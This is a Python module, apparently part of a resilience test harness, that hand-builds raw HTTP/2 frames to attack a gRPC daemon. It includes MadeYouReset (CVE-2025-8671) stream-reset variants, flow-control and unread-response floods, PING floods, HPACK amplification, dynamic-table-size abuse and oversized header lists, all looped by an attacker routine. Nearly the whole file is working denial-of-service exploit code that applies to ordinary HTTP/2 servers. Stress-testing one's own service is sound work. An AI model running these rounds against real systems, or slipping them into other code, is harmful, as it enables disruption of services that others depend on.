"""Raw HTTP/2 attacks on the gRPC transport, as byte strings built once (no HTTP/2 library state,
so a round costs the attacker little CPU): each `round_*` function is one attacking connection
(open, abuse, close), run over and over by neighbour.Attacker; `read_frames` parses what the
daemon answered for the single-connection checks."""

import select
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x20
INITIAL_WINDOW_SIZE = 0x4
BORROW = "/adloader.v1.NativeAdLoader/Borrow"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hpack_length(n, prefix_bits=7, first=0):
    limit = (1 << prefix_bits) - 1
    if n < limit:
        return bytes([first | n])
    out, n = [first | limit], n - limit
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    return bytes(out + [n])


def literal(name, value, indexing=False):
    """A literal header field with a literal name (RFC 7541 6.2), no Huffman coding."""
    name, value = name.encode(), value.encode() if isinstance(value, str) else value
    return (b"\x40" if indexing else b"\x00") + hpack_length(len(name)) + name + hpack_length(len(value)) + value


def request_block(path=BORROW, extra=()):
    """A gRPC request's header block, all literals without indexing: the same bytes every time."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
              ("content-type", "application/grpc"), ("te", "trailers"), *extra]
    return b"".join(literal(n, v) for n, v in fields)


def grpc_message(payload):
    return b"\x00" + struct.pack(">I", len(payload)) + payload


# BorrowRequest{ad_unit_id: "x", slot_key: "s"} (one lease, REUSED by every later call: the
# attacks are about the transport, not about leasing ads that are never returned) and
# ServerReflectionRequest{list_services: ""}, hand-encoded.
BORROW_X = grpc_message(b"\x0a\x01x\x1a\x01s")
LIST_SERVICES = grpc_message(b"\x3a\x00")


def connect(host, port, window=None):
    sock = socket.create_connection((host, port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    pairs = [] if window is None else [(INITIAL_WINDOW_SIZE, window)]
    sock.sendall(PREFACE + settings(*pairs))
    return sock


def drain(sock):
    """Reads whatever is there without waiting; False once the daemon closed."""
    sock.setblocking(False)
    try:
        while True:
            try:
                data = sock.recv(1 << 16)
            except BlockingIOError:
                return True
            if not data:
                return False
    except (ConnectionResetError, BrokenPipeError):
        return False
    finally:
        sock.setblocking(True)


def blast(host, port, chunks, read=True, window=None, wait=0.5):
    """One connection writing `chunks` in order, reading (and dropping) answers between them
    unless `read` is False; stops when the daemon closes. One abusive peer has one connection
    at a time: a reading round waits (up to `wait` s) for the daemon to end the connection
    before the next round opens another, so the attack is the abuse of a connection, not a
    flood of new connections queued faster than any server accepts them."""
    sock = connect(host, port, window)
    if not read:
        sock.settimeout(wait)
    try:
        for chunk in chunks:
            try:
                sock.sendall(chunk)
            except (BrokenPipeError, ConnectionResetError, socket.timeout):
                break
            if read and not drain(sock):
                return
        if not read:
            # Not reading, yet one connection at a time: wait (bounded) for the daemon to
            # close its side, which a poll sees without reading (POLLRDHUP).
            poller = select.poll()
            poller.register(sock, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
            poller.poll(wait * 1000)
        else:
            sock.settimeout(wait)
            try:
                while sock.recv(1 << 16):
                    pass
            except (socket.timeout, ConnectionResetError):
                pass
    finally:
        sock.close()


def read_frames(sock, timeout=10.0):
    """Every frame until the daemon closes (or `timeout`): (type, flags, stream, payload)."""
    frames, buffer = [], b""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            data = sock.recv(1 << 16)
        except socket.timeout:
            continue
        except ConnectionResetError:
            data = b""
        if not data:
            break
        buffer += data
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            length = int.from_bytes(buffer[:3], "big")
            frames.append((buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF, buffer[9:9 + length]))
            buffer = buffer[9 + length:]
    return frames


def goaway_code(frames):
    codes = [int.from_bytes(f[3][4:8], "big") for f in frames if f[0] == GOAWAY]
    return codes[-1] if codes else None


# MadeYouReset (CVE-2025-8671): a request the daemon accepts, then a frame that is a stream error,
# so that the daemon resets the stream itself; the client never sends RST_STREAM and the stream
# stops counting toward SETTINGS_MAX_CONCURRENT_STREAMS.

def provoking_frames(kind, stream):
    block = request_block()
    request = frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, BORROW_X)
    if kind == "window-update-zero":
        return request + frame(WINDOW_UPDATE, 0, stream, b"\x00\x00\x00\x00")
    if kind == "data-after-end-stream":
        return request + frame(DATA, 0, stream, BORROW_X)
    if kind == "headers-after-end-stream":
        return request + frame(HEADERS, END_HEADERS | END_STREAM, stream, literal("x-late", "1"))
    if kind == "priority-self-dependency":
        return frame(HEADERS, END_HEADERS | PRIORITY_FLAG, stream, struct.pack(">IB", stream, 15) + block)
    if kind == "content-length-mismatch":
        return (frame(HEADERS, END_HEADERS, stream, request_block(extra=[("content-length", "1")]))
                + frame(DATA, END_STREAM, stream, BORROW_X))
    if kind == "invalid-header":
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block + literal("X-Upper-Case", "1"))
    raise ValueError(kind)


MADE_YOU_RESET = ["window-update-zero", "data-after-end-stream", "headers-after-end-stream",
                  "priority-self-dependency", "content-length-mismatch", "invalid-header"]


def made_you_reset_bytes(kind, streams):
    return b"".join(provoking_frames(kind, 2 * i + 1) for i in range(streams))


_cache = {}


def round_made_you_reset(host, port, kind, streams=2000, read=True):
    key = ("myr", kind, streams)
    if key not in _cache:
        data = made_you_reset_bytes(kind, streams)
        _cache[key] = [data[i:i + 16384] for i in range(0, len(data), 16384)]
    blast(host, port, _cache[key], read=read)


def round_oversize_frame(host, port):
    """A DATA frame above SETTINGS_MAX_FRAME_SIZE (16384): a connection error."""
    stream = frame(HEADERS, END_HEADERS, 1, request_block())
    blast(host, port, [stream + frame(DATA, 0, 1, b"\x00" * 20000)])


# Floods from a peer whose window is closed, or that does not read at all.

def reflection_flood_bytes(streams=40, requests=2000):
    """Window 0 (SETTINGS_INITIAL_WINDOW_SIZE), then reflection streams each carrying
    `requests` requests: every answer waits in the daemon, which cannot send DATA."""
    body = frame(DATA, 0, 0, LIST_SERVICES * requests)[9:]
    out = []
    for i in range(streams):
        stream = 2 * i + 1
        out.append(frame(HEADERS, END_HEADERS, stream, request_block(REFLECTION)) + frame(DATA, 0, stream, body))
    return out


def round_reflection_window_closed(host, port):
    key = ("refl",)
    if key not in _cache:
        _cache[key] = reflection_flood_bytes()
    blast(host, port, _cache[key], window=0)


def round_unary_not_reading(host, port, streams=2000):
    """Unary calls, never a byte read: the answers pile up unsent."""
    key = ("unary", streams)
    if key not in _cache:
        data = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, request_block())
                        + frame(DATA, END_STREAM, 2 * i + 1, BORROW_X) for i in range(streams))
        _cache[key] = [data[i:i + 16384] for i in range(0, len(data), 16384)]
    blast(host, port, _cache[key], read=False)


def round_ping_flood_not_reading(host, port, pings=5000):
    """PINGs whose acks the client never reads."""
    key = ("ping", pings)
    if key not in _cache:
        _cache[key] = [b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(pings))]
    blast(host, port, _cache[key], read=False)


def round_made_you_reset_not_reading(host, port, kind="window-update-zero"):
    """MadeYouReset from a client that reads nothing: the daemon's resets queue unsent."""
    round_made_you_reset(host, port, kind, read=False)


# Header-table (HPACK) abuse.

def hpack_amplification_bytes(streams):
    """A 4000-byte header put in the dynamic table once, then header blocks of a request and
    ~16000 one-byte references to it: each byte received decodes to 4 KB of header list."""
    big = literal("x-big", "a" * 4000, indexing=True)
    out = [frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block() + big)]
    for i in range(1, streams):
        block = request_block() + b"\xbe" * 16000  # index 62: the newest dynamic entry
        out.append(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block))
    return out


def round_hpack_amplification(host, port, streams=50):
    key = ("amp", streams)
    if key not in _cache:
        _cache[key] = hpack_amplification_bytes(streams)
    blast(host, port, _cache[key])


def table_size_update(size):
    return hpack_length(size, prefix_bits=5, first=0x20)


def round_table_size_updates(host, port, streams=200):
    """Header blocks starting with many dynamic table size updates (0, 4096, 0, 4096, ...)."""
    key = ("tsu", streams)
    if key not in _cache:
        updates = (table_size_update(0) + table_size_update(4096)) * 2000
        data = [frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, updates + request_block()) for i in range(streams)]
        _cache[key] = data
    blast(host, port, _cache[key])


def round_table_size_over_limit(host, port):
    """A dynamic table size update above SETTINGS_HEADER_TABLE_SIZE (4096): a compression error."""
    blast(host, port, [frame(HEADERS, END_HEADERS | END_STREAM, 1, table_size_update(1 << 20) + request_block())],
          )


def huge_header_list_bytes(stream):
    """A header block of ~130 KB (HEADERS and 7 CONTINUATIONs of 16 KB), far over the 8 KiB list."""
    block = request_block() + b"".join(literal(f"x-h{i}", "v" * 16000) for i in range(8))
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    out = frame(HEADERS, END_STREAM if len(pieces) > 1 else END_STREAM | END_HEADERS, stream, pieces[0])
    for i, piece in enumerate(pieces[1:], 1):
        out += frame(CONTINUATION, END_HEADERS if i == len(pieces) - 1 else 0, stream, piece)
    return out


def round_huge_header_list(host, port, streams=20):
    key = ("huge", streams)
    if key not in _cache:
        _cache[key] = [huge_header_list_bytes(2 * i + 1) for i in range(streams)]
    blast(host, port, _cache[key])


def round_many_small_headers(host, port, streams=50):
    """Header blocks of ~4000 tiny fields each (16 KB)."""
    key = ("small", streams)
    if key not in _cache:
        small = literal("a", "") * 4000
        _cache[key] = [frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request_block() + small)
                       for i in range(streams)]
    blast(host, port, _cache[key])


# The families, for one neighbour measurement each: a round runs the family's next variant.

FAMILIES = {
    "made-you-reset": [("round_made_you_reset", (kind,)) for kind in MADE_YOU_RESET] + [("round_oversize_frame", ())],
    "closed-window-or-not-reading": [
        ("round_reflection_window_closed", ()), ("round_unary_not_reading", ()),
        ("round_ping_flood_not_reading", ()), ("round_made_you_reset_not_reading", ()),
    ],
    "header-table": [
        ("round_hpack_amplification", ()), ("round_table_size_updates", ()), ("round_table_size_over_limit", ()),
        ("round_huge_header_list", ()), ("round_many_small_headers", ()),
    ],
}
_next = {}


def round_family(host, port, family):
    variants = FAMILIES[family]
    i = _next.get(family, 0)
    _next[family] = i + 1
    function, args = variants[i % len(variants)]
    globals()[function](host, port, *args)


